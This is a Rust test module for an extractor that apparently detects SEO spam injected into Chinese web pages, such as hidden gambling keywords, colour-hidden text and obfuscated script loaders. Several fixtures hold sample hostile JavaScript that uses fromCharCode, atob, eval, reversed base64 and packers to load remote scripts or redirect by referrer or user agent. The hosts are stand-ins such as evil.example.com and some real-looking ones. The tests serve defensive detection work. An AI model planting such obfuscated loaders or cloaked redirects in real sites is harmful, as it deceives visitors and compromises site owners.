        let b = blocks("<p>正文</p><script>document.write('<div style=\"display:none\"><a href=\"http://spam.example/\">' + '\\u767e\\u5bb6\\u4e50</a></div>');var u='baidu.com';</script>");
        assert!(b.contains(&(Field::Script, true, "百家乐".into())), "{b:?}");
        assert!(
            b.contains(&(Field::Script, false, "baidu.com".into())),
            "{b:?}"
        );
        let hidden_script = blocks("<div style='display:none'><script>document.write('<a href=/x>六合彩</a>')</script></div>");
        assert!(
            hidden_script.contains(&(Field::Script, true, "六合彩".into())),
            "{hidden_script:?}"
        );
    }

    #[test]
    fn table_headers_reach_their_cells() {
        let page = extract(
            "<table><tr><th>姓名</th><th>身份证号</th></tr><tr><td>张三</td><td>510107198008123459</td></tr></table>\
             <table><tr><td>序号</td><td colspan=2>电话</td><td>卡号</td></tr><tr><td>1</td><td>a</td><td>b</td><td>62220</td></tr></table>",
            &Url::parse("http://a.cn/").unwrap(),
        )
        .page;
        let id = page
            .blocks
            .iter()
            .find(|b| b.text == "510107198008123459")
            .unwrap();
        assert_eq!(id.header.as_deref(), Some("身份证号"));
        let card = page.blocks.iter().find(|b| b.text == "62220").unwrap();
        assert_eq!(card.header.as_deref(), Some("卡号"));
    }

    #[test]
    fn links_resolve_against_base_and_meta_refresh() {
        let ex = extract(
            "<base href='http://a.cn/sub/'><a href='x.html#f'>x</a><iframe src='/frame.html'></iframe><meta http-equiv=refresh content='0; url=/moved.html'><a href='javascript:void(0)'>j</a><img src='/i.png'>",
            &Url::parse("http://a.cn/").unwrap(),
        );
        let links: Vec<&str> = ex.links.iter().map(Url::as_str).collect();
        assert_eq!(
            links,
            vec![
                "http://a.cn/sub/x.html",
                "http://a.cn/frame.html",
                "http://a.cn/moved.html"
            ]
        );
    }

    #[test]
    fn script_frame_and_embed_sources_are_collected_also_when_scripts_write_them() {
        let ex = extract(
            "<base href='http://a.cn/sub/'><script src='/js/jquery.js'></script><iframe src='//ads.example/f.html'></iframe>\
             <embed src='http://flash.example/x.swf'><img src='/i.png'><a href='/x'>x</a>\
             <script>document.write('<script src=\"http://spam.example/viewn.js\"><\\/script>');\
             var s = document.createElement('script'); s.src = 'https://hm.baidu.com/hm.js?1';\
             document.getElementById('d').innerHTML = '<iframe src=\"http://frame.example/\"></iframe>';</script>\
             <script src='javascript:void(0)'></script>",
            &Url::parse("http://a.cn/").unwrap(),
        );
        let sources: Vec<&str> = ex.script_sources.iter().map(Url::as_str).collect();
        assert_eq!(
            sources,
            vec![
                "http://a.cn/js/jquery.js",
                "http://ads.example/f.html",
                "http://flash.example/x.swf",
                "https://hm.baidu.com/hm.js?1",
                "http://spam.example/viewn.js",
                "http://frame.example/",
            ]
        );
        let frames = extract(
            "<frameset><frame src='left.html'><frame src='http://b.example/r.html'></frameset>",
            &Url::parse("http://a.cn/").unwrap(),
        );
        let sources: Vec<&str> = frames.script_sources.iter().map(Url::as_str).collect();
        assert_eq!(
            sources,
            vec!["http://a.cn/left.html", "http://b.example/r.html"]
        );
    }

    #[test]
    fn addresses_a_script_hides_and_loads_are_found() {
        let page = Url::parse("http://www.example.gov.cn/").unwrap();
        let terms = |html: &str| -> Vec<String> {
            extract(html, &page)
                .encoded
                .iter()
                .map(script::Encoded::term)
                .collect()
        };
        // spam/129 (tune split, round 6): tag name and address as character
        // codes (`script`, `https://jar.trafficbetter.biz/s.js`).
        let codes = "<script>var sc = document.createElement(String.fromCharCode(115, 99, 114, 105, 112, 116)); sc.src=String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 106, 97, 114, 46, 116, 114, 97, 102, 102, 105, 99, 98, 101, 116, 116, 101, 114, 46, 98, 105, 122, 47, 115, 46, 106, 115); document.head.appendChild(sc);</script>";
        assert_eq!(terms(codes), vec!["jar.trafficbetter.biz->src"]);
        // atob into a navigation; a base64 literal a custom decoder feeds
        // into `s.src`; letters as `\x` escapes; a host cut into literals.
        let atob =
            "<script>location.href = atob('aHR0cDovL3NwYW0uZXhhbXBsZS5jb20vP2E9MQ==');</script>";
        assert_eq!(terms(atob), vec!["spam.example.com->location"]);
        let custom = "<script>(function(u){var s=document.createElement('script');s.src=dec(u);document.head.appendChild(s)})('aHR0cHM6Ly9sb2FkZXIuZXhhbXBsZS5uZXQvYS5qcw==')</script>";
        assert_eq!(terms(custom), vec!["loader.example.net->createElement+src"]);
        let escaped = r#"<script>document.write('<script src="\x68\x74\x74\x70\x3a\x2f\x2f\x62\x61\x64\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d/j.js"><\/script>')</script>"#;
        assert_eq!(terms(escaped), vec!["bad.example.com->document.write"]);
        let pieces = r#"<script>var u = "ht" + "tp://ev" + "il.exa" + "mple.com/x.js"; var s = document.createElement("script"); s.src = u;</script>"#;
        assert_eq!(terms(pieces), vec!["evil.example.com->createElement+src"]);
        // Code run from a decoded string: its addresses are hidden, written
        // out or not (`document.write('<script src="http://x.evil.example/a.js"><\/script>')`).
        let run = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8veC5ldmlsLmV4YW1wbGUvYS5qcyI+PFwvc2NyaXB0PicpOw=='))</script>";
        assert_eq!(terms(run), vec!["x.evil.example->document.write"]);
        // spam/162 (round 6 blind batch, tune split), abridged: base64
        // written backwards in pieces, and `eval` of what its own decoder
        // makes of it — the next stage's address never shows.
        let reversed = "<script>j = 'hp7cycq5SYvMnavUGbw1WY4' + 'VmLyVGZh9GbuMWa0FGdz9yL6MHc0RHan0zc'; eval(no(nv(j)));</script>";
        assert_eq!(terms(reversed), vec!["static.loader.example->eval"]);
        // What sites write themselves: the government-site badge and CNZZ
        // percent-encode the markup around an address the source shows;
        // a template escapes only punctuation; a host built from a variable
        // is not known; an icon decoded is no loader; the packer is a
        // minifier; the page's own domain is not elsewhere.
        for own in [
            r#"<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/20/305/0000/60078546/CA2030500006.js' type='text/javascript'%3E%3C/script%3E"));</script>"#,
            r#"<script>var ok = "https\x3A\x2F\x2Foptimus\x2Dmtsi\x2Emeituan\x2Ecom\x2Fv"; el.innerHTML = '<a href="' + ok + '">x</a>';</script>"#,
            r#"<script>var s = document.createElement("script"); s.src = "http://cdn." + domain + "/x.js";</script>"#,
            "<script>var i = document.createElement('img'); i.src = atob('aHR0cHM6Ly93d3cuZ3N0YXRpYy5jb20vaW1hZ2VzL3dhcm5pbmcucG5n');</script>",
            r#"<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('0.1("<2 3=\\"4://5.6.7/8.9\\"></2>")',10,10,'document|write|script|src|https|cdn|partner|com|w|js'.split('|'),0,{}))</script>"#,
            "<script>window.location.href = atob('aHR0cDovL20uZXhhbXBsZS5nb3YuY24v');</script>",
            // A timer's function is no sink.
            "<script>var u = atob('aHR0cDovL2EuZXhhbXBsZS5jb20v'); setTimeout(function(){ log(u) }, 10);</script>",
        ] {
            assert!(terms(own).is_empty(), "{own}");
        }
    }

    #[test]
    fn conditional_redirects_are_found_in_packed_eval_and_written_scripts() {
        let page = Url::parse("http://www.example.gov.cn/").unwrap();
        let terms = |html: &str| -> Vec<String> {
            extract(html, &page)
                .conditional
                .iter()
                .map(script::Conditional::term)
                .collect()
        };
        // Packed: the whole condition is in the unpacked code.
        let packed = r#"<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)d[c.toString(a)]=k[c]||c.toString(a);k=[function(e){return d[e]}];e=function(){return'\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\b'+e(c)+'\b','g'),k[c]);return p}('0 1=2.3;4(1.5("6")>7||1.5("8")>7){2.9("<a b=\"c:d\"><e f=\"g://h.i/\">j</e></a>")}',20,20,'var|s|document|referrer|if|indexOf|baidu|0|sogou|write|div|style|display|none|a|href|http|spam|example|x'.split('|'),0,{}))</script>"#;
        assert_eq!(terms(packed), vec!["referrer:baidu,sogou->document.write"]);
        // spam/010-ua-gated-iframe-overlay.js (heldout split), lines 1-9,
        // abridged: the sink is in code run by eval, split in pieces.
        let split = r#"<script>var regexp=/\.(sogou|soso|sm|baidu|google)(\.[a-z0-9\-]+){1,2}\//ig;
var UA = (navigator.userAgent).toLowerCase();
if(!regexp.test(UA)){ var ss = '<iframe src="//www.diyipa.com"></iframe>';
eval("do" + "cu" + "ment.wr" + "ite('" + ss + "');"); }</script>"#;
        assert_eq!(
            terms(split),
            vec!["user-agent:baidu,google,sogou,soso,sm->document.write"]
        );
        // A script written by a script is read as one.
        let written = r#"<script>document.write('<script>if(/baidu|sogou/.test(document.referrer)){location.href="http://x.example/"}<\/script>')</script>"#;
        assert_eq!(terms(written), vec!["referrer:baidu,sogou->location"]);
        // Hex escapes and fromCharCode in eval.
        let escaped = r#"<script>var r=document['referrer'];eval(String.fromCharCode(105,102,40,47,98,97,105,100,117,47,46,116,101,115,116,40,114,41,41,108,111,99,97,116,105,111,110,61,39,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,39))</script>"#;
        assert_eq!(terms(escaped), vec!["referrer:baidu->location"]);
        // A portal's own phone redirect is not one.
        assert!(terms(
            "<script>if(/iPhone|Android/i.test(navigator.userAgent)){location.href='/m/'}</script>"
        )
        .is_empty());
    }

    #[test]
    fn deep_nesting_does_not_blow_up() {
        let html = "<div>".repeat(100_000) + "百家乐" + &"</div>".repeat(100_000);
        let ex = extract(&html, &Url::parse("http://a.cn/").unwrap());
        assert!(
            ex.page.blocks.iter().any(|b| b.text == "百家乐"),
            "truncated: {}",
            ex.truncated
        );
    }

    #[test]
    fn regex_literals_reach_script_and_the_source_reaches_code_at_the_end() {
        let b = blocks(
            "<p>正文</p><div style='display:none'><script>var r=/\\.(sogou|soso|baidu|google)(\\.[a-z0-9\\-]+){1,2}\\//ig; // 注释\n\
             if(r.test(document.referrer)) location.href=\"http://x.example/\";</script></div><p>尾</p>",
        );
        assert!(
            b.contains(&(
                Field::Script,
                true,
                r"\.(sogou|soso|baidu|google)(\.[a-z0-9\-]+){1,2}\/".into()
            )),
            "{b:?}"
        );
        let last = b.last().unwrap();
        assert_eq!(last.0, Field::Code);
        assert!(last.1, "the script sits in a hidden element");
        assert!(last.2.contains("if(r.test(document.referrer))") && !last.2.contains("注释"));
        assert_eq!(b[b.len() - 2], (Field::Text, false, "尾".into()), "{b:?}");
    }

    #[test]
    fn packed_spam_is_unpacked_and_its_html_extracted() {
        let b = blocks(&format!(
            "<p>首页</p><script>{}</script>",
            r#"eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('0 1=2.3;4(1.5("6")>7){2.8("<9 a=\\"b:c\\"><d e=\\"f://g.h/\\">百家乐</d></9>")}',62,18,'var|s|document|referrer|if|indexOf|baidu|0|write|div|style|display|none|a|href|http|spam|example'.split('|'),0,{}))"#
        ));
        assert!(b.contains(&(Field::Script, true, "百家乐".into())), "{b:?}");
        assert!(b.contains(&(Field::Script, true, "http://spam.example/".into())));
        assert!(
            b.iter().any(|x| x.0 == Field::Code
                && x.2.contains("s=document.referrer;if(s.indexOf(\"baidu\")")),
            "the unpacked code is code too: {b:?}"
        );
    }

    #[test]
    fn code_run_from_strings_is_read_at_most_max_nesting_levels_deep() {
        // eval of eval of eval: each level writes its own word.
        let level3 = "document.write('<b>第三层</b>')";
        let level2 = format!(
            "document.write('<b>第二层</b>');eval(\"{}\")",
            level3.replace('\'', "\\'")
        );
        let level1 = format!(
            "document.write('<b>第一层</b>');eval(\"{}\")",
            level2.replace('\\', "\\\\").replace('"', "\\\"")
        );
        let html = format!(
            "<script>eval('{}')</script>",
            level1.replace('\\', "\\\\").replace('\'', "\\'")
        );
        let t = texts(&html);
        assert!(
            t.contains(&"第一层".to_string()) && t.contains(&"第二层".to_string()),
            "{t:?}"
        );
        assert!(!t.contains(&"第三层".to_string()), "{t:?}");
    }

    #[test]
    fn decoded_text_per_page_is_bounded() {
        // 40 scripts each decoding 90 KB of base64: 1 MiB decoded at most.
        let payload = format!("PHA+{}PC9wPg==", "eHh4".repeat(30_000));
        let script = format!("<script>document.write(atob('{payload}'))</script>");
        let ex = extract(&script.repeat(40), &Url::parse("http://a.cn/").unwrap());
        let decoded = ex
            .page
            .blocks
            .iter()
            .filter(|b| b.field == Field::Script && b.text.starts_with('x'))
            .map(|b| b.text.len())
            .sum::<usize>();
        assert!(decoded > 0 && decoded <= script::MAX_DECODED, "{decoded}");
        assert_eq!(ex.decoded, script::MAX_DECODED);
    }

    /// The hidden flag of the block with this text.
    fn hidden_of(html: &str, text: &str) -> bool {
        let b = blocks(html);
        b.iter()
            .find(|x| x.2 == text)
            .unwrap_or_else(|| panic!("no block {text}: {b:?}"))
            .1
    }

    #[test]
    fn text_coloured_like_its_background_is_hidden() {
        for html in [
            "<div style='background:#fff'><span style='color:#ffffff'>百家乐</span></div>",
            "<div style='background-color:rgb(255, 255, 255)'><p style='color:white'>百家乐</p></div>",
            "<div style='color:#FFF'>百家乐</div>",
            "<font color=\"#FFFFFF\">百家乐</font>",
            "<p><font color=ffffff>百家乐</font></p>",
            "<div style='background:#000'><div><p style='color:black'>百家乐</p></div></div>",
            "<body bgcolor='#003366'><span style='color:#036'>百家乐</span></body>",
            "<span style='color:#fefefe'>百家乐</span>",
            "<div style='color:rgba(0,0,0,0)'>百家乐</div>",
            "<div style='color:transparent;background:url(x.png)'>百家乐</div>",
            "<div style='background:rgba(0,0,0,0.5)'><span style='color:#808080'>百家乐</span></div>",
        ] {
            assert!(hidden_of(html, "百家乐"), "{html}");
        }
        for html in [
            // legit/090-mca-npo-bureau-footer-baidu-conac.html of
            // the evaluation set (tune split): white footer text on a blue
            // cell two tables up.
            "<table><tr><td height=150 bgcolor=\"#2d5fb1\" align=center><table><tr><td align=center><table><tr>\
             <td width=\"80%\" style=\"color: #FFF;font-size:15px;font-family:'微软雅黑';\" align=left>百家乐</td></tr></table></td></tr></table></td></tr></table>",
            // legit/001-handan-xxgk-tab-panels.html (tune split): white on blue
            // set on the link itself.
            "<a href='/zfwj/' class='s2r-as' style='color: rgb(255, 255, 255); background: rgb(45, 102, 165);'>百家乐</a>",
            "<div style='background:#fff url(bg.jpg) no-repeat'><span style='color:#fff'>百家乐</span></div>",
            "<td background='bg.gif'><font color=white>百家乐</font></td>",
            "<body style='background:#000'><p style='color:#fff'>百家乐</p></body>",
            "<span style='color:#eee'>百家乐</span>",
            "<div style='background:#fff'>百家乐</div>",
            "<div style='color:var(--c)'>百家乐</div>",
            "<div style='color:transparent;background:linear-gradient(red,blue);-webkit-background-clip:text'>百家乐</div>",
        ] {
            assert!(!hidden_of(html, "百家乐"), "{html}");
        }
    }

    #[test]
    fn colour_is_inherited_but_a_child_may_change_it_and_links_keep_theirs() {
        let html = "<div style='color:#fff'>隐<span style='color:#333'>可见</span>\
                    <a href='/x'>链接</a><a href='/y' style='color:#fff'>白链接</a></div>";
        assert!(hidden_of(html, "隐"));
        assert!(!hidden_of(html, "可见"));
        assert!(
            !hidden_of(html, "链接"),
            "a link is drawn in the link colour"
        );
        assert!(!hidden_of(html, "/x"));
        assert!(hidden_of(html, "白链接"));
        assert!(
            hidden_of(html, "/y"),
            "the URL of an invisible link is hidden too"
        );
        let b = blocks("<body link='#ffffff'><a href='/z'>白</a></body>");
        assert!(b.contains(&(Field::Anchor, true, "白".into())), "{b:?}");
        // An image is seen whatever the text colour.
        let b = blocks("<div style='color:#fff'><img src='/i.png'></div>");
        assert!(b.contains(&(Field::Link, false, "/i.png".into())), "{b:?}");
    }

    #[test]
    fn colours_from_style_rules_on_ids_and_classes() {
        let html = "<style>.w{color:#fff} #dark{background:#222} .nav li{background:#c00} body{background:#fff}</style>\
                    <div id=dark><p class=w>深底白字</p></div><p class='x w'>白底白字</p>\
                    <ul class=nav><li><span class=w>菜单</span></li></ul>";
        assert!(!hidden_of(html, "深底白字"));
        assert!(hidden_of(html, "白底白字"));
        assert!(
            !hidden_of(html, "菜单"),
            "a background set by a descendant selector is unknown"
        );
        // The rule may come after the element; a colour set inline wins.
        let html = "<p class=g>灰</p><p class=g style='color:#000'>黑</p><style>.g{color:#FFFFFF;}</style>";
        assert!(hidden_of(html, "灰"));
        assert!(!hidden_of(html, "黑"));
    }
}
